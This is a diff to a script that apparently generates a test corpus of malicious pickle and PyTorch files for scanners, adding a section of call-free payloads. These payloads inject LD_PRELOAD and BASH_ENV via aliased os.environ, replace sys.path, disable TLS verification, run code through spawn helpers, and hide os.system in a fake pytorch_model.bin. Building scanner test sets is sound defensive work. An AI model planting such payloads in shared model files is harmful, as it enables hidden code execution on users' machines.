@@ -33,6 +33,11 @@ class Build:  # obj then BUILD state
         self.obj, self.state = obj, state
 
 
+class SetItems:  # obj then MARK k v ... SETITEMS (obj[k] = v without a call opcode)
+    def __init__(self, obj, items):
+        self.obj, self.items = obj, items
+
+
 def kwcall(fn, kwargs, *args):
     """fn(*args, **kwargs) the way a pickled functools.partial is rebuilt: REDUCE, BUILD, REDUCE."""
     part = Build(Call(G("_functools", "partial"), fn), (fn, (), kwargs, None))
@@ -49,6 +54,8 @@ def enc(x, proto):
         return enc(x.fn, proto) + enc(tuple(x.args), proto) + b"R"
     if isinstance(x, Build):
         return enc(x.obj, proto) + enc(x.state, proto) + b"b"
+    if isinstance(x, SetItems):
+        return enc(x.obj, proto) + b"(" + b"".join(enc(k, proto) + enc(v, proto) for k, v in x.items.items()) + b"u"
     if x is None:
         return b"N"
     if x is True:
@@ -60,7 +67,8 @@ def enc(x, proto):
             return b"K" + bytes([x])
         if -2**31 <= x < 2**31:
             return b"J" + struct.pack("<i", x)
-        raise ValueError(x)
+        n = (x.bit_length() + 8) // 8
+        return b"\x8a" + bytes([n]) + x.to_bytes(n, "little", signed=True)
     if isinstance(x, float):
         return b"G" + struct.pack(">d", x)
     if isinstance(x, str):
@@ -475,6 +483,57 @@ def gen_f():
     write("f_joblib_zstd.joblib", zstd_raw(p), C, "a zstandard-framed pickle named .joblib (not a joblib compressor; loaders that sniff)")
 
 
+# ================================================================ G. call-free state changes through alias objects, spawn helpers
+def gen_g():
+    C = "G call-free / spawn"
+    write("g_setitem_ctypes_aix_environ.pkl",
+          pk({"weights": [0.1, 0.2], "env": SetItems(G("ctypes._aix", "environ"), {"LD_PRELOAD": "/tmp/mlsec_blind6.so"})}), C,
+          "SETITEMS on `ctypes._aix.environ` (is os.environ): putenv LD_PRELOAD for every later subprocess, no call opcode")
+    write("g_setitem_sklearn_base_environ.pkl",
+          pk({"env": SetItems(G("sklearn.datasets._base", "environ"), {"BASH_ENV": "/tmp/mlsec_blind6.sh"})}), C,
+          "SETITEMS on `sklearn.datasets._base.environ` (os.environ): BASH_ENV sourced by every later `bash -c`")
+    write("g_setitem_statsmodels_environ_proxy.pkl",
+          pk({"env": SetItems(G("statsmodels.datasets.utils", "environ"),
+                              {"HTTPS_PROXY": "http://127.0.0.1:9", "REQUESTS_CA_BUNDLE": "/tmp/mlsec_blind6.pem"})}), C,
+          "SETITEMS on `statsmodels.datasets.utils.environ`: a proxy and CA bundle for later downloads")
+    write("g_build_sys_path.pkl",
+          pk({"cfg": Build(G("pickle", "sys"), {"path": ["/tmp/mlsec_blind6", "/usr/lib/python3.11", "/usr/lib/python3/dist-packages"]})}), C,
+          "BUILD on `pickle.sys` (the sys module): replaces sys.path so later imports come from /tmp")
+    write("g_build_ssl_unverified.pkl",
+          pk({"cfg": Build(G("urllib.request", "ssl"), {"_create_default_https_context": G("ssl", "_create_unverified_context")})}), C,
+          "BUILD on `urllib.request.ssl`: HTTPS certificate checks off process-wide (no call)")
+    write("g_multiprocessing_spawn_prepare_path.pkl",
+          pk(Call(G("multiprocessing.spawn", "prepare"), {"init_main_from_path": "/tmp/mlsec_blind6.py"})), C,
+          "`multiprocessing.spawn.prepare({'init_main_from_path': p})` -> runpy.run_path")
+    write("g_multiprocessing_spawn_fixup_name.pkl",
+          pk(Call(G("multiprocessing.spawn", "_fixup_main_from_name"), "mlsec_blind6")), C,
+          "`multiprocessing.spawn._fixup_main_from_name(mod)` -> runpy.run_module")
+    write("g_loky_spawn_prepare.pkl",
+          pk(Call(G("joblib.externals.loky.backend.spawn", "prepare"), {"init_main_from_path": "/tmp/mlsec_blind6.py"})), C,
+          "joblib's loky `backend.spawn.prepare` (the same run_path)")
+    write("g_sklearn_discovery_import_module.pkl",
+          pk(Call(Call(G("_operator", "methodcaller"), "system", CMD), Call(G("sklearn.utils.discovery", "import_module"), "os"))), C,
+          "`sklearn.utils.discovery.import_module` is importlib.import_module")
+    write("g_sklearn_base_makedirs.pkl", pk(Call(G("sklearn.datasets._base", "makedirs"), "/tmp/mlsec_blind6_dir")), C,
+          "`sklearn.datasets._base.makedirs` is os.makedirs")
+    write("g_ctypes_pydll.pkl", pk(Call(G("ctypes", "PyDLL"), "/tmp/mlsec_blind6.so")), C, "`ctypes.PyDLL(path)` loads a library")
+    write("g_ctypes_cdll_loadlibrary.pkl", pk(Call(G("ctypes", "cdll.LoadLibrary"), "/tmp/mlsec_blind6.so")), C,
+          "`ctypes.cdll.LoadLibrary` (protocol-4 dotted name, a bound method of a LibraryLoader)")
+    write("g_pickle_pure_unpickler.pkl",
+          pk(Call(Call(G("_operator", "methodcaller"), "load"), Call(G("pickle", "_Unpickler"), Call(G("_io", "BytesIO"), sysc())))), C,
+          "`pickle._Unpickler(BytesIO(inner)).load()` via methodcaller")
+    write("g_c_pickle_unpickler.pkl",
+          pk(Call(Call(G("_operator", "methodcaller"), "load"), Call(G("_pickle", "Unpickler"), Call(G("_io", "BytesIO"), sysc())))), C,
+          "`_pickle.Unpickler(BytesIO(inner)).load()` via methodcaller")
+    legacy = (pk(0x1950a86a20f9469cfc6c, 2) + pk(1001, 2) + pk({"protocol_version": 1001, "little_endian": True,
+                                                               "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
+              + pk({"state_dict": {}, "hook": Call(Call(G("_operator", "methodcaller"), "system", CMD), G("shutil", "os"))}, 2) + pk([], 2))
+    write("g_hf_pytorch_model_legacy.bin", legacy, C,
+          "legacy (non-zip) torch stream named pytorch_model.bin: magic, protocol, sys_info, then a methodcaller on `shutil.os`")
+    write("g_torch_zip_py2_alias.pt", torch_zip(pk({"model": Call(G("commands", "getoutput"), CMD)}, 2)), C,
+          "torch zip whose data.pkl is protocol 2 and names `commands.getoutput`")
+
+
 def _xz(data):
     import lzma
     return lzma.compress(data, format=lzma.FORMAT_XZ, preset=6)
@@ -520,7 +579,7 @@ def main():
     if os.path.isdir(OUT):
         shutil.rmtree(OUT)
     os.makedirs(OUT)
-    for g in (gen_a, gen_b, gen_c, gen_d, gen_e, gen_f):
+    for g in (gen_a, gen_b, gen_c, gen_d, gen_e, gen_f, gen_g):
         g()
     with open(os.path.join(OUT, "MANIFEST.tsv"), "w") as f:
         f.write("file\tclass\twhat\texpected\n")
